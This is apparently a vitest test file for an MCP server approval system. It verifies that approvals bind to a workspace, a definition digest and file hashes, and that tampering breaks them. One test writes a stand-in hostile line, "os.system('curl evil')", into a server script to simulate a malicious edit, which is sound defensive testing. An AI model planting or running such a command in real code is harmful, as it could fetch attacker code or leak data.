import { mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { currentBinding, judgeApproval, withApproval } from "../../src/mcp/approval.js";
import { parseMcpServer } from "../../src/mcp/config.js";

let a: string;
let b: string;
beforeEach(async () => {
  a = await realpath(await mkdtemp(join(tmpdir(), "harness-approval-a-")));
  b = await realpath(await mkdtemp(join(tmpdir(), "harness-approval-b-")));
  for (const dir of [a, b]) await writeFile(join(dir, "srv.py"), "print('hello')\n");
});
afterEach(async () => {
  await rm(a, { recursive: true, force: true });
  await rm(b, { recursive: true, force: true });
});

const proposal = parseMcpServer("proj", { command: "python3", args: ["./srv.py"] }, "harness.config.json");

describe("an approval's binding", () => {
  it("names the workspace, the definition's digest and each named file's SHA-256", () => {
    const binding = currentBinding(proposal, a);
    expect(binding.workspace).toBe(a);
    expect(binding.definition).toMatch(/^[0-9a-f]{64}$/);
    expect(Object.keys(binding.files)).toEqual([join(a, "srv.py")]);
    expect(binding.files[join(a, "srv.py")]).toMatch(/^[0-9a-f]{64}$/);
  });

  it("covers its own workspace only: the same proposal and file elsewhere is not approved", () => {
    const recorded = [currentBinding(proposal, a)];
    expect(judgeApproval(recorded, currentBinding(proposal, a))).toMatchObject({ approved: true });
    const elsewhere = judgeApproval(recorded, currentBinding(proposal, b));
    expect(elsewhere).toMatchObject({ approved: false, kind: "workspace" });
    expect(elsewhere.approved === false && elsewhere.reason).toContain(a);
  });

  it("is broken by an edited, a new or a removed file, and by a changed definition", async () => {
    const recorded = [currentBinding(proposal, a)];
    await writeFile(join(a, "srv.py"), "import os; os.system('curl evil')\n");
    expect(judgeApproval(recorded, currentBinding(proposal, a))).toMatchObject({
      approved: false,
      kind: "changed",
      reason: expect.stringContaining("srv.py was modified"),
    });
    await rm(join(a, "srv.py"));
    expect(judgeApproval(recorded, currentBinding(proposal, a))).toMatchObject({
      reason: expect.stringContaining("srv.py is gone"),
    });
    const withLib = parseMcpServer("proj", { command: "python3", args: ["./srv.py", "lib.py"] }, "x");
    await writeFile(join(a, "srv.py"), "print('hello')\n");
    const before = [currentBinding(withLib, a)];
    await writeFile(join(a, "lib.py"), "x = 1\n");
    expect(judgeApproval(before, currentBinding(withLib, a))).toMatchObject({
      reason: expect.stringContaining("lib.py is a file it now runs that was not there"),
    });
    expect(judgeApproval(recorded, currentBinding(withLib, a))).toMatchObject({
      reason: expect.stringContaining("its definition changed"),
    });
  });

  it("follows a named link to what would run: retargeting it is a change", async () => {
    await writeFile(join(a, "other.py"), "print('other')\n");
    await symlink(join(a, "srv.py"), join(a, "run.py"));
    const linked = parseMcpServer("proj", { command: "python3", args: ["./run.py"] }, "x");
    const recorded = [currentBinding(linked, a)];
    await rm(join(a, "run.py"));
    await symlink(join(a, "other.py"), join(a, "run.py"));
    expect(judgeApproval(recorded, currentBinding(linked, a))).toMatchObject({
      approved: false,
      kind: "changed",
    });
  });

  it("a bare digest from before the binding approves nothing, and says why", () => {
    const current = currentBinding(proposal, a);
    expect(judgeApproval(current.definition, current)).toMatchObject({
      approved: false,
      kind: "legacy",
      reason: expect.stringContaining("earlier harness"),
    });
    expect(judgeApproval(undefined, current)).toMatchObject({ approved: false, kind: "none" });
  });

  it("approving in a workspace replaces its earlier approval and keeps the others'", () => {
    const first = withApproval(undefined, currentBinding(proposal, a));
    const both = withApproval(first, currentBinding(proposal, b));
    expect(both.map((entry) => entry.workspace)).toEqual([a, b]);
    const again = withApproval(both, { ...currentBinding(proposal, a), files: {} });
    expect(again.map((entry) => entry.workspace)).toEqual([b, a]);
    expect(withApproval("0".repeat(64), currentBinding(proposal, a))).toHaveLength(1);
  });
});
